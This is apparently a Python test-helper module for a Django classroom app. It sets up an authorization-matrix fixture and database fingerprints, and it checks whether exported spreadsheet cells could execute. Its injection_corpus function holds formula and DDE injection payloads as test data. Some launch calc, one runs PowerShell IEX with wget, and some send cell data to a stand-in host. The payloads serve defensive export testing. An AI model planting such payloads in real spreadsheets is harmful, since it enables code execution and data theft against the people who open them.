"""Helpers of the authorization, origins, exports, privacy and deploy checks of the reliability
suite: who is who in a classroom (the actors of the authorization matrix), and what counts as a
spreadsheet cell that could run."""

import re
import unicodedata

import yaml
from django.test import Client

from classroom import auth

# Executable cells --------------------

SPREADSHEET_TRIGGERS = ("=", "+", "-", "@")
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")


def visible_start(text):
    """The first character a spreadsheet would act on: hidden characters skipped, compatibility
    forms (full-width ＝, small ﹦) folded to ASCII."""
    for char in text:
        if char.isspace() or unicodedata.category(char)[0] in "ZC":
            continue
        return unicodedata.normalize("NFKC", char)
    return ""


def executable_text(value):
    """True when a text cell could start a formula or DDE in a spreadsheet that opens it."""
    if not isinstance(value, str) or not value or value.startswith("'") or NUMBER.match(value):
        return False
    return value.startswith(("\t", "\r")) or visible_start(value).startswith(SPREADSHEET_TRIGGERS)


def injection_corpus():
    """Formula, DDE and hyperlink payloads behind every trigger, each trigger behind every hidden
    or blank prefix a reader may drop; over 200 distinct texts."""
    cores = [
        "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://example.invalid/?x="&A1,"click")',
        "SUM(1,2)", 'IMPORTXML(CONCAT("http://example.invalid/?v=",A1),"//a")',
        'DDE("cmd";"/C calc";"__DdeLink_60_870516294")', 'WEBSERVICE("http://example.invalid")',
        "2+5+cmd|' /C calc'!A0", "A1*1000", 'cmd|"/C powershell IEX(wget example.invalid)"!A0',
    ]
    triggers = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\ufe62",
                "\ufe63"]
    hidden = ["", " ", "   ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u3000", "\u200b", "\u200c",
              "\u200d", "\u2060", "\ufeff", "\u2028", "\u202f", "\x0b", "\x01", " \u200b\ufeff",
              "\t\u200b "]
    corpus = []
    for n, (prefix, trigger) in enumerate((p, t) for p in hidden for t in triggers):
        corpus.append(prefix + trigger + cores[n % len(cores)])
    corpus += ["=" + core for core in cores]
    corpus += ["\t", "\r", "-", "=", "@", "+"]
    return list(dict.fromkeys(corpus))


# Clients --------------------


def student_client(token):
    client = Client()
    if token:
        client.cookies[auth.COOKIE_NAME] = auth._signer().sign(token)
    return client


def teacher_client(user, language="en"):
    client = Client()
    client.force_login(user)
    client.cookies["language"] = language
    return client


# The classroom of the authorization matrix --------------------

OWNER, OTHER_TEACHER = "owner", "other_teacher"
SEAT, SAME_TABLE, OTHER_TABLE = "seat", "same_table", "other_table"
OTHER_LESSON, REMOVED, ANONYMOUS = "other_lesson", "removed", "anonymous"
ACTORS = (OWNER, SEAT, SAME_TABLE, OTHER_TABLE, OTHER_LESSON, REMOVED, ANONYMOUS, OTHER_TEACHER)
TEACHERS = frozenset({OWNER, OTHER_TEACHER})
STUDENTS = frozenset({SEAT, SAME_TABLE, OTHER_TABLE, OTHER_LESSON})
EVERYONE = frozenset(ACTORS)
NOBODY = frozenset()
LESSON_TITLE = "Lesson A private title"


class Classroom:
    """Lesson A (the owner's) playing at two tables of three seats, with a removed student; lesson
    B (another teacher's) playing with two students; a story waiting at lesson A's table 2; a
    question set and a finished export of the owner.

    `seat` is the student whose turn it is at table 1."""

    def __init__(self, exports_dir):
        from classroom import services as classroom
        from debrief import services as debrief
        from debrief import tasks
        from debrief.models import ExportJob
        from games.models import Game
        from tests.classroom.factories import join, make_lesson, make_teacher

        self.owner, self.other_teacher = make_teacher(), make_teacher()
        self.lesson = make_lesson(owner=self.owner, title=LESSON_TITLE)
        self.other_lesson = make_lesson(owner=self.other_teacher, title="Lesson B")
        far = [join(self.other_lesson, name) for name in ("Far Pupil", "Far Mate")]
        classroom.lesson_seat_everyone(self.other_lesson)
        classroom.lesson_start_tables(self.other_lesson)
        joined = {}
        for table in (1, 2):
            for seat in (1, 2, 3):
                joined[(table, seat)] = join(self.lesson, f"Pupil {table}{seat}")
            classroom.lesson_seat_everyone(self.lesson)
        removed, removed_token = join(self.lesson, "Gone Pupil")
        classroom.student_remove(self.lesson, removed.pk)
        classroom.lesson_start_tables(self.lesson)
        self.lesson.refresh_from_db()
        self.games = {game.table.number: game for game in
                      Game.objects.filter(table__lesson=self.lesson).select_related("table")}
        by_seat = {}
        for student, token in joined.values():
            student.refresh_from_db()
            by_seat[(student.seat.table.number, student.seat.number)] = (student, token)
        turn = self.current_seat(1)
        mate = next(seat for (table, seat) in by_seat if table == 1 and seat != turn)
        self.people = {
            SEAT: by_seat[(1, turn)], SAME_TABLE: by_seat[(1, mate)],
            OTHER_TABLE: by_seat[(2, 1)], OTHER_LESSON: far[0],
            REMOVED: (removed, removed_token), ANONYMOUS: (None, None),
        }
        self.story = self.pending_story()
        self.reseat_code = classroom.student_reseat_code(self.lesson, self.student(SEAT).pk)
        for lesson in (self.lesson, self.other_lesson):
            debrief.lesson_questions_ensure(lesson)
        self.question_set = debrief.question_set_create(self.owner, "Owner's set", language="en")
        self.export = ExportJob.objects.create(owner=self.owner, format="csv", language="en")
        self.export.lessons.set([self.lesson])
        tasks.export_lessons(self.export.pk)
        self.other_question_set = debrief.question_set_create(self.other_teacher, "B's set")
        self.bank_question = owners_draft_question(self.owner)

    def pending_story(self):
        """A story waiting for the teacher at table 2, for strangers to try to decide."""
        from tests.cockpit.factories import tell, until_may_tell

        game = self.games[2]
        return tell(game, until_may_tell(game), "A pending story")

    def current_seat(self, table):
        from tests.games.factories import engine_state

        engine, state = engine_state(self.games[table])
        return engine.current_seats(state)[0]

    def student(self, actor):
        return self.people.get(actor, (None, None))[0]

    def token(self, actor):
        return self.people.get(actor, (None, None))[1]

    def user(self, actor):
        return {OWNER: self.owner, OTHER_TEACHER: self.other_teacher}.get(actor)

    def http_client(self, actor):
        user = self.user(actor)
        return teacher_client(user) if user else student_client(self.token(actor))

    def socket_cookie(self, actor):
        from tests.sockets import session_cookie

        user = self.user(actor)
        if user:
            return session_cookie(user) + "; language=en"
        token = self.token(actor)
        return f"{auth.COOKIE_NAME}={auth._signer().sign(token)}" if token else ""


def rows(queryset, exclude=()):
    return sorted(tuple(sorted((key, repr(value)) for key, value in row.items()
                               if key not in exclude))
                  for row in queryset.values())


def owners_draft_question(owner):
    """A draft question in The Art of Science's bank, private to the owner."""
    from games.art_of_science import questionbank
    from games.art_of_science.models import Question

    record = {"lang": "en", "category": "physics", "difficulty": 1,
              "format": "multiple_choice", "prompt": "Which unit measures force?",
              "options": ["newton", "joule", "watt"], "answer": "A", "tolerance": None,
              "accept": [], "explanation": "Force is measured in newtons (N).",
              "source": "Wikipedia (en): Newton (unit)", "licence": "CC-BY-4.0", "tags": []}
    questionbank.question_import(owner, "q.yaml", yaml.safe_dump([record]).encode())
    return Question.objects.get(owner=owner)


def lesson_fingerprint(classroom, spare=None):
    """Every row about lesson A and the owner, as plain values; `spare` (a student) leaves out
    what that student may change about themselves: their own row, answers and stories, and
    their own table's game state and their seat's log rows."""
    from django.contrib.admin.models import LogEntry

    from classroom.models import Seat, Student, Table
    from debrief.models import Answer, Debrief, ExportJob, LessonQuestion, QuestionSet
    from games.art_of_science.models import Question
    from games.models import Game, GameAction
    from tests.research_programme.stories import Story

    lesson = classroom.lesson
    students = Student.objects.filter(lesson=lesson)
    answers = Answer.objects.filter(question__lesson=lesson)
    stories = Story.objects.filter(game__table__lesson=lesson)
    games = Game.objects.filter(table__lesson=lesson)
    actions = GameAction.objects.filter(game__table__lesson=lesson)
    game_fields, debrief_fields = (), ()
    if spare is not None and spare.lesson_id == lesson.pk:
        students, answers = students.exclude(pk=spare.pk), answers.exclude(student=spare)
        stories = stories.exclude(student=spare)
        debrief_fields = {"version"}  # counts the student's own saves too
        if spare.seat_id:
            own_game = spare.seat.table.game
            actions = actions.exclude(game=own_game, actor_seat=spare.seat.number)
            game_fields = {"snapshot", "snapshot_version", "version", "revision", "bot_due_at",
                           "turn_started_at", "idle_due_at", "finished_at", "deadlines",
                           "deadline_due_at"}
    from django.contrib.auth import get_user_model

    return {
        "lesson": rows(type(lesson).objects.filter(pk=lesson.pk)),
        "tables": rows(Table.objects.filter(lesson=lesson)),
        "seats": rows(Seat.objects.filter(table__lesson=lesson)),
        "students": rows(students), "answers": rows(answers), "stories": rows(stories),
        "games": rows(games, exclude=game_fields), "actions": rows(actions),
        "debrief": rows(Debrief.objects.filter(lesson=lesson), exclude=debrief_fields),
        "questions": rows(LessonQuestion.objects.filter(lesson=lesson)),
        "exports": rows(ExportJob.objects.filter(owner=classroom.owner)
                        | ExportJob.objects.filter(lessons=lesson)),
        "sets": rows(QuestionSet.objects.filter(owner=classroom.owner)),
        "owner": rows(get_user_model().objects.filter(pk=classroom.owner.pk),
                      exclude={"last_login"}),
        "admin_log": rows(LogEntry.objects.all()),
        "bank": rows(Question.objects.filter(owner=classroom.owner)),
    }
